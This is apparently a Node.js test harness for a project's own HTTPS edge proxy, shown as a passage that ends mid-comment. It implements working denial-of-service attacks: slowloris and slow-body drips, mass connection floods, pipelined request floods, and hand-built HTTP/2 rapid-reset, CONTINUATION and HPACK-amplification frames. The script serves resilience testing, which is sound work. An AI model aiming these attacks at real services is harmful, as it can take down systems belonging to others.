// Attacks on the edge's public HTTPS listener for tests/peers/edge_dos_*.sh and edge_smuggling.sh
// (issue 9: unauthenticated ways to take the public edge down). Node built-ins only. Every mode is
// bounded: it stops by itself after --duration (or --timeout) seconds, or on SIGTERM/SIGINT, closes
// all its sockets and prints ONE JSON summary line on stdout (progress goes to stderr).
//
//   node edge_attack.mjs MODE --port P [options]
//
// Common options:
//   --host 127.0.0.1        the edge's address
//   --port P                the edge's TCP (HTTPS) port
//   --local A[,B|A-B]       source addresses, round robin: "127.0.0.2", "127.0.0.3-127.0.0.14"
//   --duration S            whole attack, seconds (default 20)
//   --conns N               connections (mode-specific default)
//   --interval-ms MS        drip interval of the slow modes (default 5000)
//   --parallel N            connects in flight at once (default 128)
//   --connect-timeout-ms MS a connect (TCP, or TCP+TLS) not done in this long is given up (default 5000)
//   --quick-ms MS / --cut-ms MS   thresholds the summary counts peer closes against (1000 / 12000)
//
// Modes (what "closed by peer" means: the edge ended or reset the connection before we did):
//   flood      --hosts a.localhost,b.localhost: one TLS connection per name, never reading (paused
//              right after the handshake), writing pipelined "GET / HTTP/1.1" requests for that
//              name as fast as the socket takes them. Summary: requests/bytes written per connection.
//   slowbody   --conns 200: TLS, "POST /echo" with Content-Length --length (100000), then one body
//              byte every --interval-ms. Summary: statuses seen, how many the edge closed and when.
//   chunkext   one TLS "POST /echo" with Transfer-Encoding: chunked whose first chunk-size line has a
//              --ext-bytes (70000) chunk extension; waits --timeout s for an answer. Summary: status,
//              ms to it, closed by peer.
//   connflood  --conns 10100: bare TCP connects that send nothing, held until --duration.
//              Summary: opened, connect failures, closed by peer within quick/cut ms, lifetimes, the
//              most connections open at once that lived longer than quick-ms.
//   slowloris  --conns 3000: half "hello" (TCP, a real TLS ClientHello dripped one byte per
//              interval), half "header" (TLS handshake done, then a request header dripped one byte
//              per interval). Summary per kind, lifetimes counted from the TCP connect.
//   raw        --data 'BYTES' (\r \n \t \\ \xHH escapes): one TLS connection sends them at once and
//              reads the responses (HTTP/1.1, parsed: Content-Length / chunked / close) until the
//              peer closes, --timeout s pass, or --quiet-ms pass without a byte after a response.
//              Summary: statuses of every response, closed by peer, first body (up to 2000 bytes).
//   h2         --h2 KIND: TLS with ALPN h2, the preface, then KIND's frames (written by hand) as fast
//              as the socket takes them, --count units per connection (100000), with --no-read never
//              reading; --parallel P (1) connections at a time, a new one each time the edge shed one,
//              up to --conns. KIND: rapidreset (HEADERS + RST_STREAM per stream), continuation
//              (HEADERS without END_HEADERS, then CONTINUATIONs of --frame-bytes), hpackref (a
//              --value-bytes (4000) field into the HPACK table, then one-byte references to it filling
//              a 16 KiB HEADERS frame), hpacklit (one --value-bytes literal over CONTINUATIONs),
//              hpackmany (~2,700 tiny fields per frame), settings, ping, window (WINDOW_UPDATE +1).
//              Summary: connections, shed by the edge and when (ms from the first attack byte), units
//              sent, frames received by type, GOAWAY codes seen, response statuses.
//   idletls    --conns 3000: TLS handshakes, then nothing. Summary as connflood's, plus tlsDone and
//              overdue (still open at the end, older than --cut-ms, not closed by the edge).
//   pipeline   --count 1000: one TLS connection writes `GET /headers?i=K` for every K in one go, then
//              reads until all are answered or --timeout (30 s). Summary: responses, statuses, how many
//              in order (the origin's /headers echoes the URL), ms to the last, closed by peer.
//   tlschurn   --parallel 16 loops of TCP connect + TLS handshake + close until --duration. Summary:
//              handshakes done (and per second), connections reset before their handshake finished.
import net from 'node:net';
import tls from 'node:tls';

const mode = process.argv[2];
const argv = process.argv.slice(3);
const opt = (name, dflt) => {
  const i = argv.indexOf(name);
  return i >= 0 && i + 1 < argv.length ? argv[i + 1] : dflt;
};
const num = (name, dflt) => Number(opt(name, String(dflt)));

const host = opt('--host', '127.0.0.1');
const port = num('--port', 0);
const durationMs = num('--duration', 20) * 1000;
const intervalMs = num('--interval-ms', 5000);
const parallel = num('--parallel', 128);
const connectTimeoutMs = num('--connect-timeout-ms', 5000);
const quickMs = num('--quick-ms', 1000);
const cutMs = num('--cut-ms', 12000);
const servername = opt('--servername', 'app.localhost');

function expandLocal(spec) {
  const out = [];
  for (const part of spec.split(',').filter(Boolean)) {
    const m = part.match(/^(\d+\.\d+\.\d+\.)(\d+)-(?:\d+\.\d+\.\d+\.)?(\d+)$/);
    if (m) {
      for (let i = Number(m[2]); i <= Number(m[3]); i++) out.push(m[1] + i);
    } else {
      out.push(part);
    }
  }
  return out;
}
const locals = expandLocal(opt('--local', '127.0.0.2'));
const localFor = (i) => locals[i % locals.length];

if (!mode || !port) {
  process.stderr.write('usage: node edge_attack.mjs flood|slowbody|chunkext|connflood|slowloris|raw|h2|idletls|pipeline|tlschurn --port P [options]\n');
  process.exit(2);
}

const t0 = Date.now();
const since = () => Date.now() - t0;
const progress = (msg) => process.stderr.write(`[edge_attack ${mode} +${(since() / 1000).toFixed(1)}s] ${msg}\n`);

// --- connection bookkeeping ------------------------------------------------------------------------
// Each record: { kind, local, startAt, connectAt, peerClosedAt, selfClosed, error, status, ... }
const conns = [];
const sockets = new Set();
const timers = new Set();
let finishing = false;

function later(ms, fn) {
  const t = setTimeout(() => { timers.delete(t); fn(); }, ms);
  timers.add(t);
  return t;
}

// Marks the record closed by the peer (once) unless we closed it ourselves first.
function watchClose(sock, rec) {
  const peerClosed = (why) => {
    if (rec.selfClosed || rec.peerClosedAt !== undefined) return;
    rec.peerClosedAt = since();
    rec.peerCloseHow = why;
    for (const t of rec.timers ?? []) clearTimeout(t);
  };
  // Flowing, so that 'end' is seen even when the edge sent something first (a 408 page, a TLS
  // alert): a Readable with unread data never emits 'end'. (flood pauses it again after TLS.)
  sock.resume();
  sock.on('end', () => peerClosed('end'));
  sock.on('error', (e) => {
    rec.error = rec.error ?? e.code ?? e.message;
    // A reset that arrives before our connect callback ran: the kernel finished the TCP handshake
    // and the edge reset the connection at once (e.g. a refusal with SO_LINGER 0).
    if (rec.connectAt === undefined && (e.code === 'ECONNRESET' || e.code === 'EPIPE')) {
      rec.connectAt = since();
      rec.resetOnConnect = true;
    }
    if (rec.connectAt !== undefined) peerClosed(e.code ?? 'error');
  });
  sock.on('close', () => {
    sockets.delete(sock);
    if (rec.connectAt !== undefined) peerClosed('close');
  });
}

// Opens `n` connections with at most `parallel` connects in flight; open(i) returns a promise that
// settles when connection i is connected (or failed).
function openMany(n, open) {
  let next = 0, inFlight = 0;
  return new Promise((resolve) => {
    const pump = () => {
      if (finishing) return resolve();
      while (inFlight < parallel && next < n) {
        const i = next++;
        inFlight++;
        open(i).finally(() => {
          inFlight--;
          if (next >= n && inFlight === 0) resolve();
          else setImmediate(pump);
        });
      }
      if (next >= n && inFlight === 0) resolve();
    };
    pump();
  });
}

// Connects (TCP or TLS) for record rec; resolves when connected/handshaken or failed/timed out.
function connect(rec, { useTls, onReady }) {
  return new Promise((resolve) => {
    let done = false;
    const settle = () => { if (!done) { done = true; clearTimeout(timer); resolve(); } };
    const common = { host, port, localAddress: rec.local };
    rec.tried = true;
    const sock = useTls
      ? tls.connect({ ...common, servername: rec.servername ?? servername, rejectUnauthorized: false,
        ALPNProtocols: ['http/1.1'] })
      : net.connect(common);
    rec.sock = sock;
    sockets.add(sock);
    sock.once('connect', () => { rec.connectAt = since(); });
    const timer = setTimeout(() => {
      if (done) return;
      rec.error = rec.connectAt === undefined ? 'connect-timeout' : 'tls-timeout';
      if (rec.connectAt !== undefined && rec.peerClosedAt === undefined) { rec.selfClosed = true; rec.selfClosedAt = since(); }
      sock.destroy();
      settle();
    }, connectTimeoutMs);
    watchClose(sock, rec);
    sock.once(useTls ? 'secureConnect' : 'connect', () => {
      rec.readyAt = since();
      settle();
      onReady?.(sock, rec);
    });
    sock.once('close', settle);
  });
}

// Drips `bytes` one byte now and one every intervalMs until done, closed, or the attack ends.
function drip(sock, rec, bytes) {
  let i = 0;
  rec.timers = [];
  const step = () => {
    if (finishing || rec.peerClosedAt !== undefined || sock.destroyed) return;
    if (i >= bytes.length) return;
    sock.write(bytes.subarray(i, i + 1));
    i++;
    rec.dripped = i;
    rec.timers = [later(intervalMs, step)];
  };
  step();
}

// Parses the status codes of responses at the start of each received chunk stream (best effort, for
// the attack modes: the first status line per connection).
function watchStatus(sock, rec) {
  let head = '';
  sock.on('data', (d) => {
    if (rec.status !== undefined) return;
    head += d.toString('latin1');
    const m = head.match(/^HTTP\/1\.[01] (\d{3})/);
    if (m) {
      rec.status = Number(m[1]);
      rec.statusAt = since();
    } else if (head.length > 64) {
      rec.status = 0;
    }
  });
}

// --- summaries -------------------------------------------------------------------------------------
function lifetimes(recs) {
  return recs.filter((r) => r.peerClosedAt !== undefined && r.connectAt !== undefined)
    .map((r) => r.peerClosedAt - r.connectAt).sort((a, b) => a - b);
}
function quantile(sorted, q) {
  return sorted.length ? sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))] : null;
}
function countBy(recs, key) {
  const out = {};
  for (const r of recs) {
    const k = String(r[key] ?? 'none');
    out[k] = (out[k] ?? 0) + 1;
  }
  return out;
}
// The most connections open at once (from our side: connected, not yet closed by either side), over
// those matching `pred` (e.g. that lived at least quickMs).
function maxConcurrent(recs, endAt, pred = () => true) {
  const ev = [];
  for (const r of recs) {
    if (r.connectAt === undefined || !pred(r)) continue;
    const end = r.peerClosedAt ?? r.selfClosedAt ?? endAt;
    ev.push([r.connectAt, 1], [end, -1]);
  }
  ev.sort((a, b) => a[0] - b[0] || a[1] - b[1]);
  let cur = 0, max = 0;
  for (const [, d] of ev) { cur += d; max = Math.max(max, cur); }
  return max;
}
function closeSummary(recs, endAt) {
  const connected = recs.filter((r) => r.connectAt !== undefined);
  const lt = lifetimes(recs);
  const life = (r) => (r.peerClosedAt ?? r.selfClosedAt ?? endAt) - r.connectAt;
  return {
    conns: recs.length,
    connected: connected.length,
    connectFailed: recs.filter((r) => r.tried && r.connectAt === undefined).length,
    notTried: recs.filter((r) => !r.tried).length,
    errors: countBy(recs.filter((r) => r.error), 'error'),
    closedByPeer: lt.length,
    closedHow: countBy(recs.filter((r) => r.peerClosedAt !== undefined), 'peerCloseHow'),
    resetOnConnect: recs.filter((r) => r.resetOnConnect).length,
    closedWithinQuick: lt.filter((x) => x <= quickMs).length,
    closedWithinCut: lt.filter((x) => x <= cutMs).length,
    notClosedByPeer: connected.length - lt.length,
    lifetimeMs: { min: lt[0] ?? null, p50: quantile(lt, 0.5), p99: quantile(lt, 0.99), max: lt.at(-1) ?? null },
    maxOpen: maxConcurrent(recs, endAt),
    maxOpenLongLived: maxConcurrent(recs, endAt, (r) => life(r) > quickMs),
    quickMs,
    cutMs,
  };
}

let summarize = () => ({});
function finish(reason) {
  if (finishing) return;
  finishing = true;
  const endAt = since();
  for (const t of timers) clearTimeout(t);
  for (const r of conns) {
    if (r.sock && !r.sock.destroyed) {
      if (r.peerClosedAt === undefined) { r.selfClosed = true; r.selfClosedAt = endAt; }
    }
  }
  let summary;
  try {
    summary = { mode, reason, elapsedMs: endAt, locals: [locals[0], locals.at(-1)], ...summarize(endAt) };
  } catch (e) {
    summary = { mode, reason, error: String(e?.stack ?? e) };
  }
  for (const s of sockets) s.destroy();
  process.stdout.write(JSON.stringify(summary) + '\n', () => process.exit(0));
  setTimeout(() => process.exit(0), 2000).unref();
}
process.on('SIGTERM', () => finish('SIGTERM'));
process.on('SIGINT', () => finish('SIGINT'));
later(durationMs, () => finish('duration'));

// --- modes -----------------------------------------------------------------------------------------
async function flood() {
  const names = opt('--hosts', 'nosuch.localhost').split(',').filter(Boolean);
  names.forEach((name, i) => conns.push({ kind: name, local: localFor(i), servername: name, written: 0, requests: 0 }));
  summarize = (endAt) => ({
    conns: conns.map((r) => ({
      host: r.kind, local: r.local, connected: r.readyAt !== undefined, requestsWritten: r.requests,
      bytesWritten: r.written, closedByPeerAtMs: r.peerClosedAt ?? null, how: r.peerCloseHow ?? null,
      error: r.error ?? null, lastWriteAtMs: r.lastWriteAt ?? null,
    })),
    requestsWritten: conns.reduce((a, r) => a + r.requests, 0),
    bytesWritten: conns.reduce((a, r) => a + r.written, 0),
    closedByPeer: conns.filter((r) => r.peerClosedAt !== undefined).length,
    endAt,
  });
  await Promise.all(conns.map((rec) => connect(rec, {
    useTls: true,
    onReady: (sock) => {
      sock.pause(); // never read: the edge's responses pile up
      const req = Buffer.from(`GET / HTTP/1.1\r\nHost: ${rec.kind}\r\n\r\n`);
      const per = 256;
      const batch = Buffer.concat(Array(per).fill(req));
      const pump = () => {
        while (!finishing && !sock.destroyed && rec.peerClosedAt === undefined) {
          rec.written += batch.length;
          rec.requests += per;
          rec.lastWriteAt = since();
          if (!sock.write(batch)) return sock.once('drain', pump);
        }
      };
      pump();
    },
  })));
  const tick = () => {
    if (finishing) return;
    progress(conns.map((r) => `${r.kind}: ${r.requests} requests written${r.peerClosedAt !== undefined ? ' (closed by peer)' : ''}`).join('; '));
    later(5000, tick);
  };
  later(5000, tick);
}

async function slowbody() {
  const n = num('--conns', 200);
  const length = num('--length', 100000);
  const name = opt('--host-header', 'app.localhost');
  const path = opt('--path', '/echo');
  const head = Buffer.from(`POST ${path} HTTP/1.1\r\nHost: ${name}\r\nContent-Length: ${length}\r\n\r\n`);
  const body = Buffer.alloc(length, 'x'.charCodeAt(0));
  summarize = (endAt) => {
    const s = closeSummary(conns, endAt);
    // When the peer closed, relative to the connection's start.
    const byStatus = {};
    for (const r of conns) {
      const k = String(r.status ?? 'none');
      const e = (byStatus[k] ??= { count: 0, closedByPeer: 0, maxStatusAtMs: 0, maxLifetimeMs: 0 });
      e.count++;
      if (r.statusAt !== undefined) e.maxStatusAtMs = Math.max(e.maxStatusAtMs, r.statusAt - r.connectAt);
      if (r.peerClosedAt !== undefined) {
        e.closedByPeer++;
        e.maxLifetimeMs = Math.max(e.maxLifetimeMs, r.peerClosedAt - r.connectAt);
      }
    }
    return { ...s, statuses: countBy(conns, 'status'), byStatus,
      maxBodyBytesSent: Math.max(0, ...conns.map((r) => r.dripped ?? 0)) };
  };
  for (let i = 0; i < n; i++) conns.push({ kind: 'slowbody', local: localFor(i) });
  await openMany(n, (i) => connect(conns[i], {
    useTls: true,
    onReady: (sock, rec) => {
      watchStatus(sock, rec);
      sock.write(head);
      drip(sock, rec, body);
    },
  }));
  const open = conns.filter((r) => r.connectAt !== undefined).length;
  progress(`${open}/${n} connections open, each dripping one body byte every ${intervalMs} ms`);
  const tick = () => {
    if (finishing) return;
    progress(`closed by the edge so far: ${conns.filter((r) => r.peerClosedAt !== undefined).length}/${n}`);
    later(5000, tick);
  };
  later(5000, tick);
}

async function connflood() {
  const n = num('--conns', 10100);
  for (let i = 0; i < n; i++) conns.push({ kind: 'bare', local: localFor(i) });
  let openedAllAt = null;
  summarize = (endAt) => ({ ...closeSummary(conns, endAt), connectPhaseMs: openedAllAt });
  const tick = () => {
    if (finishing) return;
    const c = conns.filter((r) => r.connectAt !== undefined).length;
    const pc = conns.filter((r) => r.peerClosedAt !== undefined).length;
    progress(`connected ${c}/${n}, closed by the edge ${pc}`);
    later(2000, tick);
  };
  later(2000, tick);
  await openMany(n, (i) => connect(conns[i], { useTls: false }));
  openedAllAt = since();
  progress(`all ${n} connects tried in ${openedAllAt} ms`);
}

// The first flight a Node TLS client writes (a real ClientHello), captured on a local server we own.
function captureClientHello() {
  return new Promise((resolve, reject) => {
    const srv = net.createServer((s) => {
      s.once('data', (d) => { resolve(Buffer.from(d)); s.destroy(); srv.close(); });
    });
    srv.listen(0, '127.0.0.1', () => {
      const c = tls.connect({ host: '127.0.0.1', port: srv.address().port, servername, rejectUnauthorized: false,
        ALPNProtocols: ['http/1.1'] });
      c.on('error', () => {});
      setTimeout(() => c.destroy(), 1000).unref();
    });
    setTimeout(() => reject(new Error('no ClientHello captured')), 3000).unref();
  });
}

async function slowloris() {
  const n = num('--conns', 3000);
  const hello = await captureClientHello();
  const header = Buffer.from(`GET /hello HTTP/1.1\r\nHost: ${servername}\r\nUser-Agent: slowloris\r\n` +
    'X-Padding: ' + 'p'.repeat(200) + '\r\n\r\n');
  for (let i = 0; i < n; i++) conns.push({ kind: i % 2 === 0 ? 'hello' : 'header', local: localFor(i) });
  let openedAllAt = null;
  summarize = (endAt) => {
    const out = { conns: n, clientHelloBytes: hello.length, connectPhaseMs: openedAllAt,
      maxOpen: maxConcurrent(conns, endAt), quickMs, cutMs };
    for (const kind of ['hello', 'header']) {
      const recs = conns.filter((r) => r.kind === kind);
      out[kind] = { ...closeSummary(recs, endAt), tlsDone: recs.filter((r) => r.readyAt !== undefined).length,
        maxBytesDripped: Math.max(0, ...recs.map((r) => r.dripped ?? 0)) };
    }
    const all = closeSummary(conns, endAt);
    out.all = { connected: all.connected, closedByPeer: all.closedByPeer, closedWithinCut: all.closedWithinCut,
      notClosedByPeer: all.notClosedByPeer, lifetimeMs: all.lifetimeMs };
    return out;
  };
  const tick = () => {
    if (finishing) return;
    const c = conns.filter((r) => r.connectAt !== undefined).length;
    const pc = conns.filter((r) => r.peerClosedAt !== undefined).length;
    progress(`connected ${c}/${n}, closed by the edge ${pc}`);
    later(2000, tick);
  };
  later(2000, tick);
  await openMany(n, (i) => {
    const rec = conns[i];
    if (rec.kind === 'hello') {
      return connect(rec, { useTls: false, onReady: (sock) => drip(sock, rec, hello) });
    }
    return connect(rec, { useTls: true, onReady: (sock) => drip(sock, rec, header) });
  });
  openedAllAt = since();
  progress(`all ${n} connections tried in ${openedAllAt} ms`);
}

function unescape(s) {
  return Buffer.from(s.replace(/\\(r|n|t|\\|x[0-9a-fA-F]{2})/g, (_, e) => {
    if (e === 'r') return '\r';
    if (e === 'n') return '\n';
    if (e === 't') return '\t';
    if (e === '\\') return '\\';
    return String.fromCharCode(parseInt(e.slice(1), 16));
  }), 'latin1');
}

// Incremental HTTP/1.1 response parser: pushes {status, headers, body} to `out`.
function responseParser(out, { headRequest = false } = {}) {
  let buf = Buffer.alloc(0);
  let cur = null; // {status, headers, body: [], need, chunked, close}
  const step = () => {
    for (;;) {
      if (!cur) {
        const end = buf.indexOf('\r\n\r\n');
        if (end < 0) return;
        const lines = buf.subarray(0, end).toString('latin1').split('\r\n');
        buf = buf.subarray(end + 4);
        const m = lines[0].match(/^HTTP\/1\.[01] (\d{3})/);
        const headers = {};
        for (const l of lines.slice(1)) {
          const c = l.indexOf(':');
          if (c > 0) headers[l.slice(0, c).trim().toLowerCase()] = l.slice(c + 1).trim();
        }
        const status = m ? Number(m[1]) : 0;
        cur = { status, headers, body: [], bodyLen: 0 };
        if (headRequest || status === 204 || status === 304 || (status >= 100 && status < 200)) {
          cur.need = 0;
        } else if (/chunked/i.test(headers['transfer-encoding'] ?? '')) {
          cur.chunked = true;
        } else if (headers['content-length'] !== undefined) {
          cur.need = Number(headers['content-length']);
        } else {
          cur.close = true;
        }
      }
      if (cur.close) {
        cur.body.push(buf);
        cur.bodyLen += buf.length;
        buf = Buffer.alloc(0);
        return;
      }
      if (cur.chunked) {
        const le = buf.indexOf('\r\n');
        if (le < 0) return;
        const size = parseInt(buf.subarray(0, le).toString('latin1'), 16);
        if (Number.isNaN(size)) { cur.bad = true; out.push(cur); cur = null; buf = Buffer.alloc(0); return; }
        if (size === 0) {
          const te = buf.indexOf('\r\n\r\n', le);
          if (te < 0 && buf.length - le > 2) { /* trailers */ }
          const endAt = buf.subarray(le, le + 4).toString('latin1') === '\r\n\r\n' ? le + 4 : te >= 0 ? te + 4 : -1;
          if (endAt < 0) return;
          buf = buf.subarray(endAt);
          out.push(cur);
          cur = null;
          continue;
        }
        if (buf.length < le + 2 + size + 2) return;
        cur.body.push(buf.subarray(le + 2, le + 2 + size));
        cur.bodyLen += size;
        buf = buf.subarray(le + 2 + size + 2);
        continue;
      }
      const take = Math.min(cur.need, buf.length);
      cur.body.push(buf.subarray(0, take));
      cur.bodyLen += take;
      cur.need -= take;
      buf = buf.subarray(take);
      if (cur.need > 0) return;
      out.push(cur);
      cur = null;
    }
  };
  return {
    feed(d) { buf = Buffer.concat([buf, d]); step(); },
    end() { if (cur && cur.close) { out.push(cur); cur = null; } else if (cur) { cur.incomplete = true; out.push(cur); cur = null; } },
  };
}

async function rawExchange(payload) {
  const timeoutMs = num('--timeout', 5) * 1000;
  const quietMs = num('--quiet-ms', 1500);
  const rec = { kind: 'raw', local: localFor(0) };
  conns.push(rec);
  const responses = [];
  const parser = responseParser(responses);
  let received = Buffer.alloc(0);
  let lastByteAt = null, sentAt = null;
  summarize = () => {
    parser.end();
    return {
      connected: rec.readyAt !== undefined,
      sentBytes: payload.length,
      receivedBytes: received.length,
      responses: responses.map((r) => ({ status: r.status, bodyBytes: r.bodyLen, incomplete: !!r.incomplete })),
      statuses: responses.map((r) => r.status),
      firstStatus: responses[0]?.status ?? null,
      firstResponseMs: rec.firstByteAt !== undefined && sentAt !== null ? rec.firstByteAt - sentAt : null,
      firstBody: responses[0] ? Buffer.concat(responses[0].body).toString('latin1').slice(0, 2000) : null,
      closedByPeer: rec.peerClosedAt !== undefined,
      closedAfterMs: rec.peerClosedAt !== undefined && sentAt !== null ? rec.peerClosedAt - sentAt : null,
      peerCloseHow: rec.peerCloseHow ?? null,
      error: rec.error ?? null,
      writeDone: rec.writeDone ?? false,
    };
  };
  later(timeoutMs, () => finish('timeout'));
  await connect(rec, {
    useTls: true,
    onReady: (sock) => {
      sock.on('data', (d) => {
        if (rec.firstByteAt === undefined) rec.firstByteAt = since();
        lastByteAt = since();
        received = Buffer.concat([received, d]);
        parser.feed(d);
      });
      sock.on('close', () => finish('closed'));
      sentAt = since();
      sock.write(payload, () => { rec.writeDone = true; });
    },
  });
  if (rec.readyAt === undefined) return finish('connect failed');
  const quiet = () => {
    if (finishing) return;
    if (responses.length > 0 && lastByteAt !== null && since() - lastByteAt >= quietMs) return finish('quiet');
    later(100, quiet);
  };
  later(100, quiet);
}

// --- HTTP/2 raw frames (mode h2) -------------------------------------------------------------------
// Frames are written by hand: nghttp2-based clients (and Node's http2) refuse to send these.
const H2 = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 };
const H2_PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
function h2frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}
// HPACK integer with an N-bit prefix (RFC 7541 §5.1); `first` holds the pattern bits above the prefix.
function hpackInt(first, bits, v) {
  const max = (1 << bits) - 1;
  if (v < max) return Buffer.from([first | v]);
  const out = [first | max];
  v -= max;
  while (v >= 128) { out.push((v & 0x7f) | 0x80); v = Math.floor(v / 128); }
  out.push(v);
  return Buffer.from(out);
}
// A literal field (not Huffman): `indexing` true = with incremental indexing (0x40, 6-bit name
// index), else without indexing (0x00, 4-bit); `name` a static-table index or a string.
function hpackLiteral(name, value, indexing = false) {
  const v = Buffer.from(value, 'latin1');
  const parts = [];
  if (typeof name === 'number') {
    parts.push(indexing ? hpackInt(0x40, 6, name) : hpackInt(0x00, 4, name));
  } else {
    const n = Buffer.from(name, 'latin1');
    parts.push(Buffer.from([indexing ? 0x40 : 0x00]), hpackInt(0, 7, n.length), n);
  }
  parts.push(hpackInt(0, 7, v.length), v);
  return Buffer.concat(parts);
}
// GET https://AUTHORITY/PATH: :method GET (2), :scheme https (7), then :path and :authority literals.
function hpackRequest(authority, path) {
  return Buffer.concat([Buffer.from([0x82, 0x87]), hpackLiteral(4, path), hpackLiteral(1, authority)]);
}
const FLAG = { END_STREAM: 1, ACK: 1, END_HEADERS: 4 };

// Parses server frames; returns {frames, goaway, ...} counters the summary reports.
function h2reader(rec) {
  let buf = Buffer.alloc(0);
  rec.h2 = { frames: {}, headers: 0, statuses: {}, rst: 0, goaway: null, pings: 0, settingsAcks: 0, bytes: 0 };
  return (d) => {
    rec.h2.bytes += d.length;
    buf = buf.length ? Buffer.concat([buf, d]) : d;
    while (buf.length >= 9) {
      const len = buf.readUIntBE(0, 3);
      if (buf.length < 9 + len) break;
      const type = buf[3], flags = buf[4], payload = buf.subarray(9, 9 + len);
      buf = buf.subarray(9 + len);
      rec.h2.frames[type] = (rec.h2.frames[type] ?? 0) + 1;
      if (type === H2.HEADERS) {
        rec.h2.headers++;
        // The edge's responses start with an indexed :status (static 8..14) or a literal with name 8.
        const b = payload[(flags & 0x8) ? 1 : 0];
        const st = { 0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500 }[b];
        let key = st ?? 'other';
        if (st === undefined && (b & 0xf0) === 0x00 && (b & 0x0f) === 8) key = payload.subarray(2, 5).toString('latin1');
        if (st === undefined && (b & 0xc0) === 0x40 && (b & 0x3f) === 8) key = payload.subarray(2, 5).toString('latin1');
        rec.h2.statuses[key] = (rec.h2.statuses[key] ?? 0) + 1;
      } else if (type === H2.RST_STREAM) {
        rec.h2.rst++;
      } else if (type === H2.PING && (flags & FLAG.ACK)) {
        rec.h2.pings++;
      } else if (type === H2.SETTINGS && (flags & FLAG.ACK)) {
        rec.h2.settingsAcks++;
      } else if (type === H2.GOAWAY && rec.h2.goaway === null) {
        rec.h2.goaway = { atMs: since(), lastStream: payload.readUInt32BE(0) & 0x7fffffff,
          code: payload.readUInt32BE(4), debug: payload.subarray(8, 200).toString('latin1'),
          sentBefore: rec.sent ?? 0 };
      }
    }
  };
}

// TLS connections with ALPN h2, each sending the chosen --h2 attack as fast as the socket takes it
// (with --no-read never reading), until the edge closes it, --count units were sent, or --duration
// ends; --parallel P (default 1) connections at a time, each followed by a new one once the edge shed
// it (at most --conns, default unlimited). A unit is a stream (rapidreset, hpackref, hpacklit,
// hpackmany) or a frame (settings, ping, window, continuation).
async function h2attack() {
  const kind = opt('--h2', 'rapidreset');
  const count = num('--count', 100000);
  const noRead = argv.includes('--no-read');
  const authority = opt('--host-header', servername);
  const workers = num('--parallel', 1);
  const maxConns = num('--conns', 1e9);
  const big = 'b'.repeat(num('--value-bytes', 4000));
  const units = {
    // HEADERS (END_STREAM|END_HEADERS) then RST_STREAM(CANCEL) on a new stream each time.
    rapidreset: (rec) => {
      const s = rec.stream; rec.stream += 2;
      return Buffer.concat([h2frame(H2.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, s, hpackRequest(authority, '/hello')),
        h2frame(H2.RST_STREAM, 0, s, Buffer.from([0, 0, 0, 8]))]);
    },
    // The first unit: HEADERS without END_HEADERS; then CONTINUATION frames without END_HEADERS, forever.
    continuation: (rec) => {
      if (rec.sent === 0) return h2frame(H2.HEADERS, FLAG.END_STREAM, 1, hpackRequest(authority, '/hello'));
      return h2frame(H2.CONTINUATION, 0, 1, hpackLiteral('x-c', 'c'.repeat(Math.max(1, num('--frame-bytes', 64) - 6))));
    },
    // A --value-bytes (4000) field added to the dynamic table, then referenced (one byte: index 62)
    // until the 16,384-byte frame is full: ~16 MB-64 MB of header list from 16 KiB on the wire.
    hpackref: (rec) => {
      const s = rec.stream; rec.stream += 2;
      const head = Buffer.concat([hpackRequest(authority, '/hello'), hpackLiteral('x-big', big, true)]);
      const refs = Buffer.alloc(16384 - head.length, 0xbe);
      return h2frame(H2.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, s, Buffer.concat([head, refs]));
    },
    // One --value-bytes literal value (try 60000), split over 16 KiB CONTINUATIONs.
    hpacklit: (rec) => {
      const s = rec.stream; rec.stream += 2;
      const block = Buffer.concat([hpackRequest(authority, '/hello'), hpackLiteral('x-huge', big)]);
      const frames = [];
      for (let off = 0; off < block.length; off += 16384) {
        const last = off + 16384 >= block.length;
        frames.push(h2frame(off === 0 ? H2.HEADERS : H2.CONTINUATION,
          (off === 0 ? FLAG.END_STREAM : 0) | (last ? FLAG.END_HEADERS : 0), s, block.subarray(off, off + 16384)));
      }
      return Buffer.concat(frames);
    },
    // A 16 KiB header block of ~2,700 tiny fields (`a: b`, without indexing).
    hpackmany: (rec) => {
      const s = rec.stream; rec.stream += 2;
      const head = hpackRequest(authority, '/hello');
      const one = hpackLiteral('a', 'b');
      const n = Math.floor((16384 - head.length) / one.length);
      return h2frame(H2.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, s, Buffer.concat([head, ...Array(n).fill(one)]));
    },
    settings: () => h2frame(H2.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])), // INITIAL_WINDOW_SIZE 65535
    ping: (rec) => h2frame(H2.PING, 0, 0, Buffer.alloc(8, rec.sent & 0xff)),
    window: () => h2frame(H2.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])),
  };
  const unit = units[kind];
  if (!unit) { progress(`unknown --h2 ${kind}`); return finish('bad --h2'); }
  const perBatch = ['rapidreset', 'settings', 'ping', 'window', 'continuation'].includes(kind) ? 256 : 4;
  summarize = (endAt) => {
    const ready = conns.filter((r) => r.readyAt !== undefined);
    const shed = ready.filter((r) => r.peerClosedAt !== undefined).map((r) => r.peerClosedAt - r.attackAt).sort((a, b) => a - b);
    const sent = ready.map((r) => r.sent).sort((a, b) => a - b);
    const sum = (f) => ready.reduce((a, r) => a + f(r), 0);
    const goaways = countBy(ready.filter((r) => r.h2.goaway), 'goawayCode');
    return {
      kind, noRead, conns: conns.length, connected: ready.length, alpn: countBy(ready, 'alpn'),
      unitsSent: sum((r) => r.sent), bytesWritten: sum((r) => r.written),
      unitsPerConn: { min: sent[0] ?? null, p50: quantile(sent, 0.5), max: sent.at(-1) ?? null },
      closedByPeer: shed.length, notClosedByPeer: ready.length - shed.length,
      // From a connection's first attack byte to the edge's close (a GOAWAY is often lost to the
